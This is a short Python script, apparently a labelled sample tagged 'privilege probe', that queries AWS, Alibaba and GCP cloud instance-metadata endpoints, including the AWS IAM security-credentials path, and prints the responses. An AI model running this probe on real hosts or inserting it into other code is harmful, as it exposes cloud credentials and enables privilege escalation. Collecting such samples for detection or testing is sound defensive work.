# class: privilege probe; possible: low medium; style: cloud metadata
import urllib.request

for url in ("http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://100.100.100.200/latest/meta-data/",
            "http://169.254.169.254/computeMetadata/v1/"):
    try:
        print(urllib.request.urlopen(urllib.request.Request(url, headers={"Metadata-Flavor": "Google"}),
            timeout=2).read())
    except OSError as e:
        print(e)
